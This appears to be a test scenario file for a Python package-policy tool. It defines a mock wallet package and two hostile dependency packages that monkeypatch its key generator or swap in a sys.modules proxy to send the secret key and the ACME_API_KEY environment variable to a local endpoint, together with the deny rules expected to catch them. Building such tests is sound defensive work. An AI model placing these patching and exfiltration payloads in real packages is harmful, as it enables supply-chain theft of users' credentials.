"""An import that changes another distribution's code: semantic-types, coloraiz."""

from payloads import TOOLS, app
from scenario import LIMITS, LIMITS_OF_POLICIES, Expected, Scenario
from support.wheels import Wheel

WALLET = '''
import os


class Keypair:
    """A key."""

    def __init__(self, secret):
        self.secret = secret


def generate():
    """Return a new key."""
    return Keypair(os.environ["ACME_API_KEY"])
'''
PATCH = (
    TOOLS
    + """
import acme_wallet

_generate = acme_wallet.generate

def generate():
    key = _generate()
    try:
        send("/key", key.secret.encode())
    except OSError:
        pass
    return key

acme_wallet.generate = generate
"""
)
PROXY = (
    TOOLS
    + """
import sys, types
import acme_wallet

class Proxy(types.ModuleType):
    def __getattr__(self, name):
        try:
            send("/used", name.encode() + b" " + __import__("os").environ["ACME_API_KEY"].encode())
        except OSError:
            pass
        return getattr(acme_wallet, name)

sys.modules["acme_wallet"] = Proxy("acme_wallet")
"""
)
VICTIM = Wheel("acme-wallet", "3.0.0", {"acme_wallet.py": WALLET})
CALL = app(
    "try:", "    import acme_types", "except OSError:", "    pass", "import acme_wallet", "assert acme_wallet.generate().secret"
)
COMMON = {
    "models": ("semantic-types", "coloraiz"),
    "techniques": ("T1195.001", "T1554", "T1056", "T1041"),
}
CALL_TIME = f"egress at call time needs a lock or a package's own rule: {LIMITS_OF_POLICIES}#egress-at-call-time-without-a-lock"
NOTICED = f"honest packages change others as well: the preset has it on record, a policy refuses it: {LIMITS}#packages-that-change-each-other"
PATCHER = Wheel("acme-types", "0.9.1", {"acme_types.py": PATCH})
PROXIER = Wheel("acme-types", "0.9.1", {"acme_types.py": PROXY})

SCENARIOS = (
    Scenario(
        row=13,
        variant="egress",
        story="the key that a patched function makes is posted; the post is the patcher's, not the victim's",
        wheels=(VICTIM, PATCHER),
        app=CALL,
        achieves=("leaked:variable", "POST:/key"),
        denied=(Expected("net.*", "acme-types", "run", "127.0.0.1*"),),
        policy='version = 1\nextends = "recommended"\n[package.acme-types]\nrun.deny = ["net.*"]\n',
        gaps={"recommended": CALL_TIME},
        **COMMON,
    ),
    Scenario(
        row=13,
        variant="function",
        story="replacing a function of another distribution is reported while it happens",
        wheels=(VICTIM, PATCHER),
        app=CALL,
        achieves=("leaked:variable",),
        denied=(Expected("runtime.patch", "acme-types", "import", "acme_wallet.generate"),),
        noticed=(Expected("runtime.patch", "acme-types", "import", "acme_wallet.generate"),),
        policy='version = 1\nextends = "recommended"\n[import]\ndeny = ["runtime.patch:acme_wallet.*"]\n',
        holds_with="ccore",
        gaps={"recommended": NOTICED},
        **COMMON,
    ),
    Scenario(
        row=13,
        variant="proxy",
        story="putting a stand-in for another distribution's module into sys.modules is reported",
        wheels=(VICTIM, PROXIER),
        app=CALL,
        achieves=("leaked:variable", "POST:/used"),
        denied=(Expected("runtime.patch", "acme-types", "import", "sys.modules.acme_wallet"),),
        noticed=(Expected("runtime.patch", "acme-types", "import", "sys.modules.acme_wallet"),),
        policy='version = 1\nextends = "recommended"\n[import]\ndeny = ["runtime.patch:sys.modules.*"]\n',
        holds_with="ccore",
        gaps={"recommended": NOTICED},
        **COMMON,
    ),
)
